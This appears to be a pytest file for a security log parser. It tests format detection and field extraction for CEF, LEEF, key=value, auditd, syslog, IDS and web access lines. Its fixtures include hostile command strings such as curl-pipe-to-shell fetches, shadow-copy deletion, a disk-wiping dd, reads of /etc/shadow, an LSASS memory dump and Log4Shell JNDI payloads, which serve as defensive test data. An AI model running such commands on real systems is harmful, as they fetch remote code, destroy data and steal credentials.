"""Formats of one line: CEF, LEEF, key=value, auditd, syslog, network devices, web servers."""

from __future__ import annotations

import pytest

from tests.knowledge.alerts.pasted import formats, only, place, read, values

CEF = (
    r"CEF:0|Security|threat\|manager|1.0|100|worm \\ stopped|10|src=10.0.0.1 act=blocked a \= b msg=line one\nline two "
    r"cs1Label=Rule Name cs1=No worms here fname=C:\\Program Files\\x.exe request=http://x.example/?a\=b"
)


@pytest.mark.parametrize(
    "head", ["", "<134>Feb 19 10:11:12 host ", "<134>1 2025-02-19T10:11:12Z host ", "Feb 19 10:11:12 host : "]
)
def test_cef(head: str) -> None:
    text = head + CEF
    record = only(text)
    assert record.format == "cef"
    found = values(record)
    assert found["DeviceVendor"] == "Security"
    assert found["DeviceProduct"] == "threat|manager"
    assert found["DeviceEventClassID"] == "100"
    assert found["Name"] == "worm \\ stopped"
    assert found["Severity"] == "10"
    assert found["act"] == "blocked a = b"
    assert found["msg"] == "line one\nline two"
    assert found["cs1"] == found["Rule Name"] == "No worms here"
    assert found["fname"] == "C:\\Program Files\\x.exe"
    assert found["request"] == "http://x.example/?a=b"
    assert place(text, record, "act") == r"blocked a \= b"
    assert found.get("host") == ("host" if head else None)


@pytest.mark.parametrize("cut", range(8, len(CEF), 7))
def test_cef_cut(cut: int) -> None:
    assert "cef" in formats(CEF[:cut]) or cut < 15


@pytest.mark.parametrize(
    "text",
    [
        "LEEF:1.0|Lancope|StealthWatch|1.0|41|src=10.0.1.8\tdst=10.0.0.5\tmsg=there was a = foobar",
        "LEEF:2.0|Lancope|StealthWatch|1.0|41|^|src=10.0.1.8^dst=10.0.0.5^msg=there was a = foobar",
        "LEEF:2.0|Lancope|StealthWatch|1.0|41|x5E|src=10.0.1.8^dst=10.0.0.5^msg=there was a = foobar",
        "LEEF:2.0|Lancope|StealthWatch|1.0|41|0x09|src=10.0.1.8\tdst=10.0.0.5\tmsg=there was a = foobar",
        "Dec 05 08:33:20 nac LEEF:1.0|Lancope|StealthWatch|1.0|41|src=10.0.1.8 dst=10.0.0.5 msg=there was a = foobar",
    ],
)
def test_leef(text: str) -> None:
    record = only(text)
    assert record.format == "leef"
    found = values(record)
    assert (found["DeviceVendor"], found["DeviceProduct"], found["EventID"]) == ("Lancope", "StealthWatch", "41")
    assert (found["src"], found["dst"], found["msg"]) == ("10.0.1.8", "10.0.0.5", "there was a = foobar")


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            'date=2025-09-26 time=23:40:12 devname="FG-1" logid="0100044547" msg="Add firewall.policy 118"',
            {"devname": "FG-1", "logid": "0100044547", "msg": "Add firewall.policy 118"},
        ),
        (
            '<189>date=2025-09-26 devname="FG-1" action=Add cfgattr="srcintf[wan1]action[accept]"',
            {"date": "2025-09-26", "action": "Add", "cfgattr": "srcintf[wan1]action[accept]"},
        ),
        (
            '1741774272, search_name="Access - Brute Force", src="10.1.1.1", count="412"',
            {"timestamp": "1741774272", "search_name": "Access - Brute Force", "count": "412"},
        ),
        ("a=one two, b=three, c=4", {"a": "one two", "b": "three", "c": "4"}),
        ("a=one two; b=three; c=4", {"a": "one two", "b": "three", "c": "4"}),
        ("a=one, two|b=three|c=4", {"a": "one, two", "b": "three", "c": "4"}),
        ("a=one two\tb=three\tc=4", {"a": "one two", "b": "three", "c": "4"}),
        (
            "EventID=11 Image=C:\\Program Files\\x.exe TargetFilename=C:\\a b.txt",
            {"EventID": "11", "Image": "C:\\Program Files\\x.exe", "TargetFilename": "C:\\a b.txt"},
        ),
        (
            'time="2025-03-12T10:11:12Z" level=warning msg="say \\"hi\\"" cmd="sh -c \'a=b c=d\'"',
            {"level": "warning", "msg": 'say "hi"', "cmd": "sh -c 'a=b c=d'"},
        ),
        (
            "2025-05-15T01:00:07Z WARN [auth] login rejected user=ann reason=BAD ip=192.0.2.2",
            {"timestamp": "2025-05-15T01:00:07Z", "message": "WARN [auth] login rejected", "ip": "192.0.2.2"},
        ),
        (
            'url=http://x.example/?a=b&c=d user=bob CommandLine="C:\\temp\\new.exe /x=1"',
            {"url": "http://x.example/?a=b&c=d", "user": "bob", "CommandLine": "C:\\temp\\new.exe /x=1"},
        ),
        (
            'TYPE:"4" DBUSER:[3] "RPT" ACTION:"3" SQLTEXT:\'select pan from t\'',
            {"TYPE": "4", "DBUSER": "RPT", "SQLTEXT": "select pan from t"},
        ),
    ],
)
def test_key_value(text: str, expected: dict[str, str]) -> None:
    record = only(text)
    assert record.format == "key_value"
    assert expected.items() <= values(record).items()


def test_lines_of_pairs_are_one_record_until_a_name_comes_again() -> None:
    text = '>index=win host=DC02 EventCode=4739\n>User=adm\n>Policy="Password Policy"  Domain=CORP\n'
    assert values(only(text))["Policy"] == "Password Policy"
    assert values(only("user=bob\nsrc_ip=10.0.0.1\ncmd=powershell -c a=b c=d\n"))["cmd"] == "powershell -c a=b c=d"
    assert formats("a=1 b=2 c=3\na=4 b=5 c=6") == ["key_value", "key_value"]


@pytest.mark.parametrize(
    "text",
    [
        "The actor set DISABLE=1 and then ran: vssadmin delete shadows /all.",
        "rundll32.exe comsvcs.dll, MiniDump 672 C:\\temp\\l.dmp full",
        "dd if=/dev/zero of=/dev/sda bs=1M count=10",
        'sc.exe create evil binPath= "cmd /c calc" start= auto obj= LocalSystem',
        "docker run -e A=1 -e B=2 -e C=3 -e D=4 alpine",
        "#!/bin/bash\nHOST=10.0.0.1\nPORT=4444\nKEY=abc\ncurl -s http://$HOST/x | sh",
        "HOST=10.0.0.1\nPORT=4444\nKEY=abc\ncurl -s http://$HOST/x | sh",
        "$a=1; $b=2; $c=3; iex $a",
        "https://x.example/?a=1&b=2&c=3&d=4",
        "Suspicious Service\nDetects a new service. Look for: sc create.",
        "we saw x, y, and z, then a, b, and c.\nNothing else, just noise, as always.",
    ],
)
def test_prose_commands_and_scripts_stay_prose(text: str) -> None:
    assert set(formats(text)) == {"prose"}


AUDIT = """\
type=SYSCALL msg=audit(1700000000.123:456): arch=c000003e syscall=59 a0=55 comm="sh" exe="/bin/dash" key="exec"
type=EXECVE msg=audit(1700000000.123:456): argc=3 a0="sh" a1="-c" a2=6375726C20687474703A2F2F78207C207368
type=CWD msg=audit(1700000000.123:456): cwd="/root"
type=PROCTITLE msg=audit(1700000000.123:456): proctitle=7368002D630077686F616D69
type=USER_CMD msg=audit(1700000001.5:457): pid=9 uid=1000 msg='cmd=636174202F6574632F736861646F77 res=success'
"""


@pytest.mark.parametrize(
    "prefix", ["", "node=web1 ", "Mar 12 10:11:12 web1 audispd: ", "Mar 12 10:11:12 web1 audit[1]: "]
)
def test_auditd(prefix: str) -> None:
    text = "".join(f"{prefix}{line}\n" for line in AUDIT.splitlines())
    records = read(text).records
    assert [record.format for record in records] == ["auditd", "auditd"]
    found = values(records[0])
    assert found["SYSCALL.exe"] == "/bin/dash"
    assert found["SYSCALL.a0"] == "55"
    assert found["SYSCALL.key"] == "exec"
    assert found["command_line"] == "sh -c curl http://x | sh"
    assert place(text, records[0], "command_line") == 'sh" a1="-c" a2=6375726C20687474703A2F2F78207C207368'
    assert found["CWD.cwd"] == "/root"
    assert found["PROCTITLE.proctitle"] == "sh -c whoami"
    assert place(text, records[0], "PROCTITLE.proctitle") == "7368002D630077686F616D69"
    assert values(records[1])["USER_CMD.cmd"] == "cat /etc/shadow"
    assert values(records[1])["USER_CMD.res"] == "success"


def test_auditd_arguments_that_only_look_hexadecimal() -> None:
    text = 'type=EXECVE msg=audit(1.2:3): argc=3 a0="echo" a1="cafe" a2="2024"'
    assert values(only(text))["command_line"] == "echo cafe 2024"


def test_syslog_of_rfc_3164_and_5424() -> None:
    text = "<38>Oct 11 22:14:15 web1 sshd[4721]: Failed password for root from 203.0.113.4 port 22 ssh2"
    record = only(text)
    assert record.format == "syslog"
    found = values(record)
    assert (found["host"], found["program"], found["pid"]) == ("web1", "sshd", "4721")
    assert found["message"] == "Failed password for root from 203.0.113.4 port 22 ssh2"
    text = (
        '<165>1 2025-10-11T22:14:15.003Z web1 evntslog 12 ID47 [ex@32473 iut="3" src="App \\"x\\""][o a="b"] An event'
    )
    found = values(only(text))
    assert (found["program"], found["msgid"], found["iut"], found["src"]) == ("evntslog", "ID47", "3", 'App "x"')
    assert (found["a"], found["message"]) == ("b", "An event")


@pytest.mark.parametrize(
    ("text", "form", "expected"),
    [
        (
            "Mar 12 10:11:12 web1 sudo:     bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/sh -c a;b",
            "syslog",
            {"program": "sudo", "user": "bob", "USER": "root", "PWD": "/home/bob", "COMMAND": "/bin/sh -c a;b"},
        ),
        (
            "Mar 12 10:11:13 web1 sudo: eve : user NOT in sudoers ; TTY=pts/1 ; PWD=/ ; USER=root ; COMMAND=/bin/sh",
            "syslog",
            {"user": "eve", "message": "user NOT in sudoers", "COMMAND": "/bin/sh"},
        ),
        (
            "Mar 12 10:11:14 web1 CRON[44]: (root) CMD (curl -s http://x.example/a | sh)",
            "syslog",
            {"user": "root", "action": "CMD", "command_line": "curl -s http://x.example/a | sh"},
        ),
        (
            "2025-11-05T02:14:03Z shell[2100771]: [root]: esxcli software acceptance set --level=CommunitySupported",
            "syslog",
            {
                "program": "shell",
                "user": "root",
                "command_line": "esxcli software acceptance set --level=CommunitySupported",
            },
        ),
        (
            "Mar 12 10:11:16 web1 kernel: [12.3] IN=eth0 OUT= SRC=203.0.113.4 DST=10.0.0.1 PROTO=TCP DPT=22",
            "key_value",
            {"host": "web1", "program": "kernel", "SRC": "203.0.113.4", "DPT": "22"},
        ),
        (
            (
                'May 14 11:02:17 b4 dockerd[1187]: time="2025-05-14T11:02:17Z" level=debug msg="form data: '
                '{\\"Cmd\\":[\\"sh\\"],\\"P\\":true}"'
            ),
            "key_value",
            {"program": "dockerd", "level": "debug", "msg": "form data:", "msg.Cmd": "sh", "msg.P": "true"},
        ),
        (
            '2025-08-27T19:24:00Z fwd01 entra: {"activityDisplayName":"Consent to application","result":"success"}',
            "json",
            {"host": "fwd01", "program": "entra", "activityDisplayName": "Consent to application"},
        ),
        (
            "Feb 13 2025 02:50:31 asa-edge : %ASA-6-605005: Login permitted from 198.51.100.31/50177",
            "syslog",
            {"host": "asa-edge", "mnemonic": "ASA-6-605005", "message_id": "605005"},
        ),
        ("%SYS-5-CONFIG_I: Configured from console by vty0", "syslog", {"mnemonic": "SYS-5-CONFIG_I"}),
        (
            (
                "<113>Mar 12 2025 10:11:12 ftd1 : %FTD-1-430003: SrcIP: 10.1.1.1, DstIP: 203.0.113.1, URL: "
                "http://x.example/a"
            ),
            "syslog",
            {"message.SrcIP": "10.1.1.1", "message.URL": "http://x.example/a"},
        ),
        (
            (
                "10:20:05.408091526: Warning Sensitive file opened for reading (user=root command=cat "
                "/etc/shadow file=/etc/shadow)"
            ),
            "falco",
            {"priority": "Warning", "output": "Sensitive file opened for reading", "command": "cat /etc/shadow"},
        ),
        (
            (
                "05/21/2025-23:02:10.551934  [**] [1:2024218:5] ET EXPLOIT ETERNALBLUE [**] [Classification: Attempted "
                "Administrator Privilege Gain] [Priority: 1] {TCP} 192.0.2.15:49291 -> 192.0.2.66:445"
            ),
            "suricata_fast",
            {
                "signature_id": "2024218",
                "signature": "ET EXPLOIT ETERNALBLUE",
                "priority": "1",
                "protocol": "TCP",
                "classification": "Attempted Administrator Privilege Gain",
                "src_ip": "192.0.2.15",
                "dest_port": "445",
            },
        ),
        (
            (
                "<33>Mar 12 10:11:12 ids suricata[9]: [1:2024897:1] ET MALWARE Beacon [Classification: Trojan] "
                "[Priority: 1]"
            ),
            "suricata_fast",
            {"host": "ids", "signature": "ET MALWARE Beacon", "classification": "Trojan"},
        ),
        (
            (
                "<14>Jun 10 PA-HQ-1 1,2025/06/10 14:03:55,0127,THREAT,spyware,2561,2025/06/10 14:03:55,192.0.2.190,"
                "192.0.2.53,1.1.1.1,2.2.2.2,internal-dns,corp\\bob,,dns-base,vsys1,trust,untrust,e1/4,e1/1,siem,"
                '2025/06/10 14:03:55,519284,1,51220,53,1,53,0x400053,tcp,sinkhole,"xk3,v.example",'
                "DGA:x(109000001),any,medium"
            ),
            "paloalto",
            {
                "type": "THREAT",
                "subtype": "spyware",
                "src": "192.0.2.190",
                "rule": "internal-dns",
                "srcuser": "corp\\bob",
                "app": "dns-base",
                "action": "sinkhole",
                "misc": "xk3,v.example",
                "threatid": "DGA:x(109000001)",
                "severity": "medium",
            },
        ),
        (
            (
                "1,2025/06/10 14:03:55,0127,CONFIG,0,2561,2025/06/10 14:03:55,10.0.0.1,,delete,admin,Web,"
                "Succeeded,rulebase"
            ),
            "paloalto",
            {"type": "CONFIG", "cmd": "delete", "admin": "admin", "result": "Succeeded", "path": "rulebase"},
        ),
    ],
)
def test_lines_of_systems_and_devices(text: str, form: str, expected: dict[str, str]) -> None:
    record = only(text)
    assert record.format == form
    assert expected.items() <= values(record).items()


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            (
                '203.0.113.9 - bob [18/Feb/2025:04:11:20 +0000] "GET /?q=${jndi:ldap://x/a} HTTP/1.1" 200 512 '
                '"https://r.example/" "Mozilla/5.0 \\"x\\""'
            ),
            {
                "address": "203.0.113.9",
                "user": "bob",
                "method": "GET",
                "url": "/?q=${jndi:ldap://x/a}",
                "status": "200",
                "size": "512",
                "referer": "https://r.example/",
                "user_agent": 'Mozilla/5.0 "x"',
                "protocol": "HTTP/1.1",
            },
        ),
        (
            '203.0.113.9 - - [18/Feb/2025:04:11:20 +0000] "POST /a b.php HTTP/1.0" 404 -',
            {"method": "POST", "url": "/a b.php", "status": "404"},
        ),
        (
            '"GET /${jndi:ldap://x/a} HTTP/1.1" 200 123 "-" "curl/8"',
            {"url": "/${jndi:ldap://x/a}", "user_agent": "curl/8"},
        ),
        (
            (
                "1746540120.118   4820 192.0.2.73 TCP_TUNNEL/200 48220195 CONNECT transfer.sh:443 CORP\\e.lima "
                "HIER_DIRECT/203.0.113.19 -"
            ),
            {
                "address": "192.0.2.73",
                "method": "CONNECT",
                "url": "transfer.sh:443",
                "status": "200",
                "user": "CORP\\e.lima",
            },
        ),
        (
            (
                "2025-02-08 10:30:11 192.0.2.25 POST /owa/x.aspx Cmd=1 443 - 203.0.113.61 "
                "python-requests/2.28.1 - 302 0 0 120"
            ),
            {
                "cs-method": "POST",
                "cs-uri-stem": "/owa/x.aspx",
                "c-ip": "203.0.113.61",
                "cs(User-Agent)": "python-requests/2.28.1",
            },
        ),
    ],
)
def test_web_servers_and_proxies(text: str, expected: dict[str, str]) -> None:
    record = only(text)
    assert record.format == "access_log"
    assert expected.items() <= values(record).items()
